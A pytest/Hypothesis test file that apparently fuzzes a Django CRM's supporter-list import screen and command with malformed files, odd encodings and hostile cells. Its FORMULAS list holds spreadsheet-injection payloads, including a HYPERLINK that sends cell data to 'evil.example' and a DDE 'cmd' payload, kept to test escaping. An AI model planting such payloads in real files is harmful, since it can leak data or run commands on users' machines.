"""Hostile and malformed partner lists, through the admin's import screen and the command.

Whatever the file (random bytes, any encoding, huge cells, formula payloads,
odd or duplicated headings, broken JSON or workbooks), the screen answers
200 with either a clear message saying what is wrong or a row-by-row
preview; the preview writes nothing but its batch; a confirmed batch is
applied whole or not at all. The command prints a message or a summary and
never a traceback.
"""

import codecs
import csv
import io
import json
import string

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context

from crm import imports
from crm.models import ConsentRecord, ImportBatch, Subscription, Supporter
from tests.conftest import xlsx_bytes
from tests.security.conftest import changed_tables, database_state

pytestmark = pytest.mark.django_db

IMPORT = reverse("admin:crm_supporter_import")
PROCESS = reverse("admin:crm_supporter_process_import")

FIXTURES = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
# The preview stores its batch and nothing else.
PREVIEW_TABLES = {"crm.ImportBatch", "crm.ImportBatch_interests"}

# One client for the module: a new Client loads the middleware (and WhiteNoise
# rescans the static files) each time.
CLIENT = Client()

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    '=IMPORTXML(CONCAT("http://x/",A2),"//a")',
]
HEADINGS = [
    "Email",
    "E-mail address",
    "email",
    "First name",
    "Last name",
    "Name",
    "Postcode",
    "Country",
    "Interests",
    "Phone",
    "Organisation",
    "Partner",
    "Updated",
    "",
    " ",
    "\uff25\uff4d\uff41\uff49\uff4c",  # fullwidth "Email"
    "\ufeffEmail",
    "=1+1",
    "Email\x00",
    "x" * 300,
]
printable = st.characters(exclude_categories=["Cs", "Cc"])
ordinary_cells = st.one_of(
    st.emails(),
    st.sampled_from(["ann@example.org", "ANN@Example.org ", "bob@example.org", "not-an-email"]),
    st.sampled_from(FORMULAS),
    st.sampled_from(["r2p", "events", "r2p; events", "nonexistent", "R2P|events"]),
    st.sampled_from(
        ["GB", "uk", "Narnia", "01/02/2024", "31/02/2024", "2024-01-01", "waging-peace"]
    ),
    st.text(printable, max_size=40),
)
rare_cells = st.one_of(
    st.text(max_size=20),  # control characters too
    st.integers(1_000, 300_000).map(lambda n: "x" * n),  # over csv's 128 KiB cell limit too
)
# Mostly cells a spreadsheet could hold, so most files reach the row checks.
cells = st.integers(0, 15).flatmap(lambda n: rare_cells if n == 0 else ordinary_cells)
rows = st.lists(st.lists(cells, max_size=8), max_size=6)
headings = st.lists(st.sampled_from(HEADINGS) | st.text(printable, max_size=30), max_size=5)
encodings = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1", "utf-32"])
file_names = st.sampled_from(["list.csv", "list.tsv", "list.json", "list.xlsx", "list", "list.txt"])
formats = st.sampled_from(["", *imports.FORMATS])
encoding_choices = st.sampled_from(list(imports.ENCODINGS))


def delimited(header, body, delimiter, encoding):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(body)
    return codecs.encode(buffer.getvalue(), encoding, errors="replace")


csv_files = st.builds(delimited, headings, rows, st.sampled_from([",", ";", "\t", "|"]), encodings)
json_files = st.one_of(
    st.builds(
        lambda items: json.dumps(items).encode(),
        st.lists(
            st.dictionaries(st.sampled_from(HEADINGS) | st.text(max_size=12), cells), max_size=5
        ),
    ),
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=20),
        lambda children: (
            st.lists(children, max_size=3)
            | st.dictionaries(st.text(max_size=8), children, max_size=3)
        ),
        max_leaves=10,
    ).map(lambda value: json.dumps(value).encode()),
)
# Workbooks cannot hold control characters or cells over 32,767 characters.
xlsx_cell = st.one_of(
    st.text(printable, max_size=40),
    st.sampled_from(FORMULAS),
    st.emails(),
    st.integers(),
    st.none(),
)
xlsx_files = st.builds(
    lambda header, body: xlsx_bytes([header, *body]),
    st.lists(st.sampled_from([h for h in HEADINGS if "\x00" not in h]), max_size=6),
    st.lists(st.lists(xlsx_cell, max_size=6), max_size=5),
)
any_file = st.one_of(
    st.binary(max_size=3000),
    csv_files,
    json_files,
    xlsx_files,
    # A real file with its last bytes cut off.
    st.tuples(xlsx_files | csv_files, st.integers(1, 200)).map(lambda pair: pair[0][: -pair[1]]),
)


@pytest.fixture
def staff(membership_user):
    return membership_user


def _in_rolled_back_transaction(check):
    with transaction.atomic():
        check()
        transaction.set_rollback(True)


def upload(partner, content, name, **fields):
    return CLIENT.post(
        IMPORT,
        {
            "resource": "0",
            "partner": partner.pk,
            "format": fields.pop("format", ""),
            "encoding": fields.pop("encoding", "auto"),
            "import_file": SimpleUploadedFile(name, content),
            **{key: value for key, value in fields.items() if value},
        },
    )


def assert_preview_then_confirm_is_whole_or_nothing(staff, partner, content, name, **fields):
    """Upload `content`; check the preview's answer; confirm it if it can be; check the result."""
    outcome = _preview_then_confirm(staff, partner, content, name, **fields)
    if currently_in_test_context():
        event(outcome)
    return outcome


def _preview_then_confirm(staff, partner, content, name, **fields):
    CLIENT.force_login(staff)
    before = database_state()

    response = upload(partner, content, name, **fields)

    assert response.status_code == 200
    after_preview = database_state()
    problems = response.context["form"].errors
    if problems:
        # Refused as a whole: a message that says what is wrong, and nothing stored.
        messages = problems.get("import_file", [])
        assert messages and all(len(message.strip()) > 10 for message in messages), problems
        assert changed_tables(before, after_preview) == []
        return "refused"
    assert set(changed_tables(before, after_preview)) <= PREVIEW_TABLES
    plan = response.context["plan"]
    for row in plan.errors:
        assert row.message.strip(), f"row {row.number} has no message"
    batch = response.context["result"].batch
    if batch is None:
        assert plan.has_errors
        assert changed_tables(before, after_preview) == []
        return "row errors"

    confirmed = CLIENT.post(PROCESS, {"batch": batch.pk})

    assert confirmed.status_code == 302
    batch.refresh_from_db()
    after = database_state()
    if batch.status == ImportBatch.Status.FAILED:
        assert batch.error.strip()
        assert set(changed_tables(before, after)) <= PREVIEW_TABLES
        return "failed whole"
    assert batch.status == ImportBatch.Status.DONE
    new = len(after["crm.Supporter"]) - len(before["crm.Supporter"])
    assert new == batch.counts.get(imports.NEW, 0)
    # Every subscription the import made has the consent record that explains it.
    for subscription in Subscription.objects.filter(supporter__partner=partner):
        assert ConsentRecord.objects.filter(
            supporter_id=subscription.supporter_id, interest=subscription.interest
        ).exists()
    return "imported"


@FIXTURES
@given(
    content=any_file,
    name=file_names,
    file_format=formats,
    encoding=encoding_choices,
    skip_invalid=st.booleans(),
    overwrite=st.booleans(),
)
def test_any_file_through_the_admin_is_refused_clearly_or_imported_whole(
    staff, partner, interest, other_interest, content, name, file_format, encoding,
    skip_invalid, overwrite,
):  # fmt: skip
    def check():
        assert_preview_then_confirm_is_whole_or_nothing(
            staff, partner, content, name, format=file_format, encoding=encoding,
            skip_invalid=skip_invalid, overwrite=overwrite,
        )  # fmt: skip

    _in_rolled_back_transaction(check)


@FIXTURES
@given(header=headings, body=rows)
def test_csv_with_odd_headings_and_cells_is_refused_clearly_or_imported_whole(
    staff, partner, interest, other_interest, opted_out_supporter, header, body
):
    """Plain UTF-8 CSV, so the rows reach the planner: headings, formulas, huge cells."""

    def check():
        content = delimited(["Email", *header], body, ",", "utf-8")
        outcome = assert_preview_then_confirm_is_whole_or_nothing(
            staff, partner, content, "list.csv", skip_invalid="on"
        )
        # Bob unsubscribed from everything; no file subscribes him again.
        bob = Supporter.objects.get(pk=opted_out_supporter.pk)
        assert bob.status == Supporter.Status.UNSUBSCRIBED
        assert not bob.subscriptions.filter(status="subscribed").exists()
        assert outcome in ("refused", "row errors", "failed whole", "imported")

    _in_rolled_back_transaction(check)


@FIXTURES
@given(content=st.one_of(st.binary(max_size=2000), csv_files, json_files), name=file_names)
def test_any_file_through_the_command_ends_in_a_message_or_a_summary(
    partner, interest, tmp_path_factory, content, name
):
    path = tmp_path_factory.mktemp("lists") / name

    def check():
        path.write_bytes(content)
        before = database_state()
        out = io.StringIO()
        try:
            call_command("import_supporters", str(path), "--partner", partner.slug, stdout=out)
        except CommandError as error:
            assert len(str(error).strip()) > 10
            assert set(changed_tables(before, database_state())) <= PREVIEW_TABLES
        else:
            assert "rows from" in out.getvalue()

    _in_rolled_back_transaction(check)


def test_formula_cells_are_stored_as_text_and_exported_escaped(staff, partner, interest):
    """A formula in a name is just text to Rally; the export neutralises it for spreadsheets."""
    content = delimited(
        ["Email", "First name", "Last name", "Organisation"],
        [["eve@example.org", "=1+1", '=HYPERLINK("http://evil.example","x")', "@SUM(A1)"]],
        ",",
        "utf-8",
    )

    outcome = assert_preview_then_confirm_is_whole_or_nothing(staff, partner, content, "list.csv")

    eve = Supporter.objects.with_email("eve@example.org").first()
    if outcome == "imported":
        assert eve.first_name == "=1+1"
        from crm import exports

        rows = list(
            exports.supporter_rows(
                supporters=Supporter.objects.filter(pk=eve.pk),
                columns=["first_name", "organisation"],
            )
        )
        escaped = [exports.escape_formula(value) for value in rows[0]]
        assert all(not str(value).startswith(("=", "+", "-", "@")) for value in escaped)
    else:
        # Refusing formulas is as good: nothing was stored.
        assert eve is None


def test_file_over_the_size_limit_is_refused_before_it_is_read(staff, partner, settings):
    settings.RALLY_IMPORT_MAX_BYTES = 1000
    CLIENT.force_login(staff)
    before = database_state()

    response = upload(partner, b"Email\n" + b"a@example.org\n" * 200, "list.csv")

    messages = response.context["form"].errors["import_file"]
    assert response.status_code == 200
    assert any("the largest file Rally imports is" in message for message in messages)
    assert changed_tables(before, database_state()) == []


@pytest.mark.parametrize(
    "content",
    [
        "Email,First name\nann@example.org," + "x" * 200_000 + "\n",
        "Email\n" + "a" * 300 + "@example.org\n",
        'Email,Name\nann@example.org,"unterminated\n',
        "Email,Email\nann@example.org,bob@example.org\n",
        "\ufeff\ufeffEmail\nann@example.org\n",
        "Email\r\rann@example.org\r",
        "Email;First name\nann@example.org;Ann\n",
        "sep=,\nEmail\nann@example.org\n",
    ],
    ids=[
        "huge cell",
        "overlong address",
        "unterminated quote",
        "two email columns",
        "double byte-order mark",
        "old Mac line ends",
        "semicolons",
        "Excel sep line",
    ],
)
def test_awkward_csv_files_get_an_answer_not_a_crash(staff, partner, interest, content):
    outcome = assert_preview_then_confirm_is_whole_or_nothing(
        staff, partner, content.encode(), "list.csv"
    )

    assert outcome in ("refused", "row errors", "failed whole", "imported")


@pytest.mark.parametrize("alphabet", [string.printable, "\u0000\u0001\ufffe\uffff"])
def test_text_with_odd_characters_in_every_encoding(staff, partner, interest, alphabet):
    for encoding in ("utf-8", "utf-16", "cp1252", "latin-1"):
        text = "Email,First name\nann@example.org," + alphabet.replace(",", "") + "\n"
        content = codecs.encode(text, encoding, errors="replace")
        for choice in imports.ENCODINGS:
            assert_preview_then_confirm_is_whole_or_nothing(
                staff, partner, content, "list.csv", encoding=choice
            )
